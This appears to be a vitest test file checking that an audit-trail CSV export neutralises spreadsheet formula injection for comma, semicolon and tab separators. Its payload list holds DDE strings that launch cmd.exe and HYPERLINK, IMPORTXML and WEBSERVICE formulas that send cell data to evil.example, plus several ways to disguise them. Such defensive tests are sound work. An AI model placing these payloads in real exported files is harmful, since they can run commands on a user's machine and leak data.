import { describe, expect, it } from 'vitest';
import { auditBy } from '@/server/services/caller';
import { ada, personNamed } from '@/tests/support/callers';
import { openWorld, type World } from '@/tests/services/support';

/** What spreadsheet programs are known to run, and ways to hide it. */
const RUNS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '=IMPORTXML("http://evil.example","//a")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  "=cmd|' /C calc'!A0",
  '+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+9)*cmd|" /C calc"!A0',
  '=DDE("cmd";"/C calc";"x")',
  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
  '\uFF1D1+1',
  '\uFF0B1+1',
  '\uFF0D1+1',
  '\uFF20SUM(1)',
] as const;
const HIDDEN = [
  (run: string) => run,
  (run: string) => `  ${run}`,
  (run: string) => `\u00A0${run}`,
  (run: string) => `because;${run};`,
  (run: string) => `because; "${run}`,
  (run: string) => `because","${run}`,
] as const;
const CORPUS = RUNS.flatMap((run) => HIDDEN.map((hide) => hide(run)));

/** A cell that a spreadsheet would run. */
const RUN = /^[\s"\p{Cf}]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u;

/** RFC 4180: what a program makes of the file whose list separator is a comma. */
function cellsByComma(text: string): string[] {
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(?:,|\r\n)/y;
  const cells: string[] = [];
  while (cell.lastIndex < text.length) {
    const at = cell.lastIndex;
    const match = cell.exec(text);
    if (match === null) throw new Error(`not CSV: ${text.slice(at, at + 60)}`);
    cells.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? '');
  }
  return cells;
}

/** Where the separator is another one a quote within a cell means nothing. */
const cellsBy = (text: string, separator: RegExp): string[] =>
  text.split(/\r\n|\r|\n/).flatMap((line) => line.split(separator));

async function exported(world: World): Promise<string> {
  const file = await world.services.audit.export(ada, { format: 'csv' });
  const chunks: string[] = [];
  for await (const chunk of file.chunks) chunks.push(chunk);
  return chunks.join('');
}

describe('[S-43] the whole export of a trail full of formulas', () => {
  it('runs in no spreadsheet, whatever its list separator is', async () => {
    const world = await openWorld();
    for (const formula of CORPUS) {
      // oxlint-disable-next-line no-await-in-loop -- each row is bound to the one before
      await world.store.appendAudit({
        at: world.clock.wall(),
        ...auditBy(personNamed(formula)),
        action: 'override.issued',
        subject: formula,
        outcome: 'done',
        details: { reason: formula },
      });
    }
    const text = await exported(world);
    expect(text.split('\r\n').length).toBeGreaterThan(CORPUS.length);
    const cells = {
      comma: cellsByComma(text),
      semicolon: cellsBy(text, /;/),
      tab: cellsBy(text, /\t/),
    };
    for (const [separator, list] of Object.entries(cells)) {
      expect({ separator, run: list.filter((one) => RUN.test(one)) }).toEqual({
        separator,
        run: [],
      });
    }
    expect(cells.comma.filter((one) => one.includes('calc')).length).toBeGreaterThan(20);
  });
});
